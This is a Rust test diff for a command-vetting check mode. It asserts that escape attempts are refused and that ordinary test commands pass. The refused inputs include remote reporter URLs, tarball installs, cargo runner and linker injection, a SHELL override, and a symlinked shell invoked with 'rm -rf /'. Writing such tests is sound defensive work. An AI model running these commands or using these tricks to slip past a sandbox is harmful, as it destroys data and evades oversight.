@@ -688,3 +688,86 @@ mod never_panics {
         }
     }
 }
+
+#[test]
+fn program_model_additions_are_refused_and_ordinary_checks_pass() {
+    refused(
+        "python3 -m timeit -s 'import os' pass",
+        "check.inline_code",
+        "-m timeit",
+    );
+    refused("python3 -mtimeit pass", "check.inline_code", "-m timeit");
+    refused("make SHELL:=/bin/sh test", "check.exec_flag", "SHELL:=");
+    refused("make 'SHELL+=-x' test", "check.exec_flag", "SHELL+=");
+    refused("make --eval=x test", "check.inline_code", "--eval");
+    refused("node", "check.inline_code", "node");
+    refused("node -i", "check.inline_code", "-i");
+    refused(
+        "node --test-reporter=data:text/javascript,x --test",
+        "check.inline_code",
+        "--test-reporter",
+    );
+    refused(
+        "node --test --test-reporter https://x.example/r.js",
+        "check.inline_code",
+        "--test-reporter",
+    );
+    refused(
+        "cargo run --manifest-path /tmp/evil/Cargo.toml",
+        "check.path",
+        "/tmp/evil/Cargo.toml",
+    );
+    refused(
+        "cargo test --manifest-path=../x/Cargo.toml",
+        "check.path",
+        "../x/Cargo.toml",
+    );
+    refused("npm install left-pad", "check.package_runner", "install");
+    refused("npm i https://x.example/p.tgz", "check.package_runner", "i");
+    refused("npm add @scope/pkg@1.0.0", "check.package_runner", "add");
+    refused(
+        "cargo test --config 'target.x86_64-unknown-linux-gnu.runner=\"sh\"'",
+        "check.exec_flag",
+        "--config",
+    );
+    refused(
+        "cargo test --config build.rustflags=-Clinker=x",
+        "check.exec_flag",
+        "--config",
+    );
+    for ok in [
+        "python3 -m pytest tests/ && python3 tools/check.py",
+        "cargo test --config net.offline=true",
+        "cargo test --config term.color=never",
+        "node --test",
+        "node test/run.js",
+        "npm install",
+        "npm ci",
+        "make test",
+        "cargo run --manifest-path Cargo.toml",
+    ] {
+        assert!(check(ok).is_ok(), "{ok}: {:?}", check(ok));
+    }
+}
+
+#[test]
+fn packages_pinned_by_the_lockfile_may_be_installed_and_linked_shells_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    std::fs::write(
+        root.join("package-lock.json"),
+        r#"{"packages": {"node_modules/left-pad": {"version": "1.3.0"}}}"#,
+    )
+    .unwrap();
+    std::fs::create_dir(root.join("scripts")).unwrap();
+    std::os::unix::fs::symlink("/bin/sh", root.join("scripts/run")).unwrap();
+    std::fs::write(root.join("scripts/test.sh"), "#!/bin/sh\n").unwrap();
+    let opts = CheckModeOptions::new(root);
+    assert!(vet("npm install left-pad", &opts).is_ok());
+    let r = vet("npm install is-odd", &opts).unwrap_err();
+    assert_eq!(r.rule, "check.package_runner", "{r}");
+    let r = vet("./scripts/run -c 'rm -rf /'", &opts).unwrap_err();
+    assert_eq!(r.rule, "check.shell", "{r}");
+    assert!(r.reason.contains("/bin/sh"), "{}", r.reason);
+    assert!(vet("./scripts/test.sh", &opts).is_ok());
+}
